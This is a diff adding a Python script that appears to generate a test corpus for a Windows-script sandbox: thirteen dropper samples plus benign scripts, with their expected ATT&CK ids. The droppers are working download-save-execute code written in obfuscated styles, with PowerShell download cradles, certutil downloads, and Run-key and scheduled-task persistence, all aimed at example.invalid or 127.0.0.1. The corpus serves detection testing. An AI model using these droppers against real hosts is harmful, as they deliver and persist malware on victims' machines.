@@ -1,0 +1,228 @@
+#!/usr/bin/env python3
+# Writes the Windows script corpus of detonate-wsh.sh: droppers in the styles of public samples
+# (API names assembled at run time, eval of char codes, array joins, reversed strings, hex
+# escapes, WSF and HTA wrappers, VBScript) and benign Windows scripts. Payload URLs point to
+# example.invalid or 127.0.0.1 only; nothing here is fetched from anywhere.
+# Prints one line per dropper: "NAME KIND IDS" (KIND: js, or vbs for what box-js cannot run;
+# IDS: the ATT&CK ids detonation must give, comma-separated).
+import os
+import sys
+
+mal, ben = sys.argv[1], sys.argv[2]
+manifest = []
+
+
+def write(folder, name, text):
+    with open(os.path.join(folder, name), "w", newline="\r\n") as f:
+        f.write(text)
+
+
+def dropper(name, text, ids, kind="js"):
+    write(mal, name, text)
+    manifest.append("%s %s %s" % (name, kind, ",".join(ids)))
+
+
+def charcodes(s):
+    return ",".join(str(ord(c)) for c in s)
+
+
+FETCH_SAVE_RUN = """
+var h = new ActiveXObject(%(xhr)s);
+h.open("GET", %(url)s, false);
+h.send();
+var st = new ActiveXObject(%(stream)s);
+st.Open(); st.Type = 1; st.Write(h.ResponseBody);
+st.SaveToFile(%(path)s, 2); st.Close();
+var sh = new ActiveXObject(%(shell)s);
+sh.%(run)s(%(cmd)s, 0);
+"""
+
+# 1. plain: XMLHTTP, ADODB.Stream, WScript.Shell.Run of the saved file through cmd
+dropper("plain.js", FETCH_SAVE_RUN % dict(
+    xhr='"MSXML2.XMLHTTP"', url='"http://example.invalid/invoice.exe"', stream='"ADODB.Stream"',
+    path='"C:\\\\Users\\\\Public\\\\invoice.exe"', shell='"WScript.Shell"', run="Run",
+    cmd='"cmd /c C:\\\\Users\\\\Public\\\\invoice.exe"'), ["T1105", "T1059.007", "T1204.002", "T1059.003"])
+
+# 2. API names and the URL as string concatenations
+dropper("concat.js", FETCH_SAVE_RUN % dict(
+    xhr='"MSX" + "ML2." + "XML" + "HTTP"', url='"ht" + "tp:/" + "/exam" + "ple.invalid/" + "d.e" + "xe"',
+    stream='"ADO" + "DB.St" + "ream"', path='"C:\\\\Users\\\\Public\\\\" + "d.exe"',
+    shell='"WSc" + "ript.Sh" + "ell"', run='Run', cmd='"C:\\\\Users\\\\Public\\\\d.exe"'),
+    ["T1105", "T1059.007", "T1204.002"])
+
+# 3. the whole body in eval(String.fromCharCode(...))
+body3 = FETCH_SAVE_RUN % dict(
+    xhr='"MSXML2.ServerXMLHTTP"', url='"http://127.0.0.1:9/stage2.exe"', stream='"ADODB.Stream"',
+    path='"C:\\\\ProgramData\\\\stage2.exe"', shell='"WScript.Shell"', run="Run",
+    cmd='"C:\\\\ProgramData\\\\stage2.exe"')
+dropper("fromcharcode.js", "var _0x = [%s];\neval(String.fromCharCode.apply(null, _0x));\n" % charcodes(body3),
+        ["T1105", "T1059.007", "T1204.002"])
+
+# 4. array join and indexed look-ups
+dropper("arrayjoin.js", """
+var a = ["XMLHTTP", "MSXML2.", "Stream", "ADODB.", "Shell", "WScript.", "http://example.invalid/", "x.exe"];
+function g(i, j) { return [a[i], a[j]].join(""); }
+var h = new ActiveXObject(g(1, 0));
+h["op" + "en"]("GET", g(6, 7), false);
+h["se" + "nd"]();
+var s = new ActiveXObject(g(3, 2));
+s.Open(); s.Type = 1; s.Write(h["Respon" + "seBody"]);
+s.SaveToFile("C:\\\\Users\\\\Public\\\\" + a[7], 2);
+new ActiveXObject(g(5, 4))["R" + "un"]("C:\\\\Users\\\\Public\\\\" + a[7]);
+""", ["T1105", "T1059.007", "T1204.002"])
+
+# 5. reversed strings
+dropper("reversed.js", """
+function r(s) { return s.split("").reverse().join(""); }
+var h = new ActiveXObject(r("PTTHLMX.2LMXSM"));
+h.open("GET", r("exe.rdpu/dilavni.elpmaxe//:ptth"), false);
+h.send();
+var s = new ActiveXObject(r("maertS.BDODA"));
+s.Open(); s.Type = 1; s.Write(h.ResponseBody); s.SaveToFile(r("exe.rdpu\\\\PMET\\\\:C"), 2);
+new ActiveXObject(r("llehS.tpircSW")).Run(r("exe.rdpu\\\\PMET\\\\:C c/ dmc"), 0);
+""", ["T1105", "T1059.007", "T1204.002", "T1059.003"])
+
+# 6. hex and unicode escapes, a Run key for persistence
+dropper("runkey.js", """
+var h = new ActiveXObject("\\x4d\\x53\\x58\\x4d\\x4c\\x32\\x2e\\x58\\x4d\\x4c\\x48\\x54\\x54\\x50");
+h.open("GET", "\\u0068ttp://example.invalid/svc.exe", false); h.send();
+var s = new ActiveXObject("\\x41DODB.Stream");
+s.Open(); s.Type = 1; s.Write(h.ResponseBody); s.SaveToFile("C:\\\\Users\\\\Public\\\\svc.exe", 2);
+var w = new ActiveXObject("\\x57Script.Shell");
+w.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\svc", "C:\\\\Users\\\\Public\\\\svc.exe", "REG_SZ");
+""", ["T1105", "T1059.007", "T1547.001"])
+
+# 7. PowerShell download cradle through WScript.Shell, built from pieces
+dropper("powershell.js", """
+var p = ["power", "shell", " -nop -w hidden -c ", "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/a.ps1')"];
+var sh = WScript.CreateObject("WScript.Shell");
+sh.Run(p.join(""), 0, false);
+""", ["T1105", "T1059.007", "T1059.001"])
+
+# 8. a scheduled task (schtasks) after a certutil download
+dropper("schtasks.js", """
+var sh = new ActiveXObject("WScript.Shell");
+sh.Run("cmd /c certutil -urlcache -split -f http://example.invalid/t.exe %TEMP%\\\\t.exe", 0, true);
+sh.Run("schtasks /create /tn Updater /tr %TEMP%\\\\t.exe /sc onlogon /f", 0, true);
+""", ["T1105", "T1059.007", "T1059.003", "T1053.005"])
+
+# 9. WSF with two JScript jobs in CDATA
+dropper("job.wsf", """<?xml version="1.0"?>
+<package><job id="main">
+<script language="JScript"><![CDATA[
+var u = "http://exam" + "ple.invalid/p.dll";
+]]></script>
+<script language="JScript"><![CDATA[
+var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", u, false); x.send();
+var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.ResponseBody);
+s.SaveToFile("C:\\\\Users\\\\Public\\\\p.dll", 2);
+new ActiveXObject("WScript.Shell").Run("rundll32 C:\\\\Users\\\\Public\\\\p.dll,Start", 0);
+]]></script>
+</job></package>
+""", ["T1105", "T1059.007", "T1204.002"])
+
+# 10. HTA with JScript, self-contained, closes itself
+dropper("invoice.hta", """<html><head><title>Invoice</title>
+<HTA:APPLICATION ID="app" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
+<script language="JScript">
+var c = String.fromCharCode(112,111,119,101,114,115,104,101,108,108);
+var sh = new ActiveXObject("WScript.Shell");
+sh.Run(c + " -ep bypass -c \\"Invoke-WebRequest http://example.invalid/i.exe -OutFile $env:TEMP\\\\i.exe; Start-Process $env:TEMP\\\\i.exe\\"", 0);
+window.close();
+</script></head><body>Loading...</body></html>
+""", ["T1105", "T1059.007", "T1059.001"])
+
+# 11. a JScript.Encode-free but function-table style (a public sample's shape)
+dropper("table.js", """
+var T = { o: function (n) { return new ActiveXObject(n); }, k: ["MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell"] };
+var x = T.o(T.k[0]); x.open("GET", "http://127.0.0.1:9/b.exe", false); x.send();
+if (x.status == 200 || true) {
+  var s = T.o(T.k[1]); s.Open(); s.Type = 1; s.Write(x.ResponseBody);
+  s.SaveToFile("C:\\\\Windows\\\\Temp\\\\b.exe", 2);
+  T.o(T.k[2]).Exec("C:\\\\Windows\\\\Temp\\\\b.exe");
+}
+""", ["T1105", "T1059.007"])
+
+# 12. VBScript: box-js has no VBScript engine
+dropper("loader.vbs", """Set x = CreateObject("MSXML2.XMLHTTP")
+x.Open "GET", "http://example.invalid/v.exe", False
+x.Send
+Set s = CreateObject("ADODB.Stream")
+s.Open : s.Type = 1 : s.Write x.ResponseBody
+s.SaveToFile "C:\\Users\\Public\\v.exe", 2
+CreateObject("WScript.Shell").Run "C:\\Users\\Public\\v.exe", 0
+""", ["T1105"], kind="vbs")
+
+# 13. HTA with VBScript
+dropper("vbs.hta", """<html><head><HTA:APPLICATION WINDOWSTATE="minimize"/>
+<script language="VBScript">
+Set sh = CreateObject("WScript.Shell")
+sh.Run "powershell -c iwr http://example.invalid/h.exe -OutFile h.exe; .\\h.exe", 0
+self.close
+</script></head><body></body></html>
+""", ["T1105"], kind="vbs")
+
+# Benign Windows scripts: arithmetic, argument handling, text, dates, a read of a file.
+write(ben, "sum.js", """
+var total = 0;
+for (var i = 1; i <= 100; i++) total += i;
+WScript.Echo("sum: " + total);
+""")
+write(ben, "args.js", """
+var args = WScript.Arguments;
+if (args.length == 0) WScript.Echo("usage: args.js NAME...");
+for (var i = 0; i < args.length; i++) WScript.Echo("hello " + args(i));
+""")
+write(ben, "dates.js", """
+var d = new Date(2024, 0, 31);
+d.setDate(d.getDate() + 30);
+WScript.Echo("due: " + d.getFullYear() + "-" + (d.getMonth() + 1) + "-" + d.getDate());
+""")
+write(ben, "primes.js", """
+function primes(n) { var out = []; for (var i = 2; out.length < n; i++) { var p = true;
+  for (var j = 2; j * j <= i; j++) if (i % j == 0) { p = false; break; } if (p) out.push(i); } return out; }
+WScript.Echo(primes(25).join(", "));
+""")
+write(ben, "json.js", """
+var cfg = { name: "backup", keep: 7, folders: ["docs", "mail"] };
+var text = JSON.stringify(cfg);
+WScript.Echo(text.length + " " + JSON.parse(text).folders.length);
+""")
+write(ben, "regex.js", """
+var lines = ["alice@example.org", "not an address", "bob@example.net"];
+var n = 0;
+for (var i = 0; i < lines.length; i++) if (/^[^@ ]+@[^@ ]+$/.test(lines[i])) n++;
+WScript.Echo(n + " addresses");
+""")
+write(ben, "sort.js", """
+var words = "the quick brown fox jumps over the lazy dog".split(" ");
+words.sort(function (a, b) { return a.length - b.length || (a < b ? -1 : 1); });
+WScript.Echo(words.join(" "));
+""")
+write(ben, "popup.js", """
+var sh = new ActiveXObject("WScript.Shell");
+sh.Popup("Backup finished", 5, "Backup", 64);
+""")
+write(ben, "report.wsf", """<?xml version="1.0"?>
+<job id="report"><script language="JScript"><![CDATA[
+var rows = [[1, "north", 120], [2, "south", 95]];
+var s = 0; for (var i = 0; i < rows.length; i++) s += rows[i][2];
+WScript.Echo("total " + s);
+]]></script></job>
+""")
+# (no benign .hta: the static rule html_application flags every HTA file, whatever it does)
+write(ben, "inventory.wsf", """<?xml version="1.0"?>
+<package><job id="inventory"><script language="JScript"><![CDATA[
+var items = { disks: 2, printers: 1, monitors: 3 };
+var out = [];
+for (var k in items) out.push(k + "=" + items[k]);
+WScript.Echo(out.join(";"));
+]]></script></job></package>
+""")
+write(ben, "envinfo.js", """
+var sh = new ActiveXObject("WScript.Shell");
+var env = sh.Environment("Process");
+WScript.Echo("temp is " + env("TEMP"));
+""")
+
+print("\n".join(manifest))
